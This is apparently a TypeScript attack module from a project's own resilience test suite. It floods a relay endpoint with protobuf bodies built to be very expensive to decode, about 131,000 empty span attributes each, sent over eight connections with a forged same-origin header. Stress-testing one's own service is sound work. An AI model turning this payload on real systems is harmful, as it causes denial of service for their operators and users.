import { relayPath } from '@cruddur/wire/names'
import { type Attack, send, sendUntil } from './attack.ts'

const connections = 8
const forMs = 8_000
const bodyBytes = 262_000

const field = (number: number, content: Uint8Array): Buffer => {
  const length: number[] = []
  for (let rest = content.length; ; rest >>>= 7) {
    length.push(rest > 127 ? (rest & 127) | 128 : rest)
    if (rest <= 127) return Buffer.concat([Buffer.from([number * 8 + 2, ...length]), content])
  }
}
/** Two bytes become an object: an empty attribute of a span, 131,000 times. */
const attributes = Buffer.alloc(bodyBytes, Buffer.of(0x4a, 0))
const objects = field(1, field(2, field(2, attributes)))
const spans = field(1, field(2, Buffer.alloc(bodyBytes, Buffer.of(0x12, 0))))

/** Eight connections post the bodies that are most expensive to decode, as fast as they are answered. */
export const attack: Attack = {
  name: 'relay objects',
  run: async ({ frontend, localAddress }) => {
    const answers: Record<string, number> = {}
    const endsAt = performance.now() + forMs
    const one = (body: Buffer) => {
      const headers = {
        'content-type': 'application/x-protobuf',
        'content-length': body.length,
        'sec-fetch-site': 'same-origin',
      }
      const options = { ...frontend, localAddress, method: 'POST', path: relayPath, headers }
      return sendUntil(endsAt, answers, () => send(options, body))
    }
    await Promise.all(Array.from({ length: connections }, (_, n) => one(n % 2 === 0 ? objects : spans)))
    return answers
  },
}
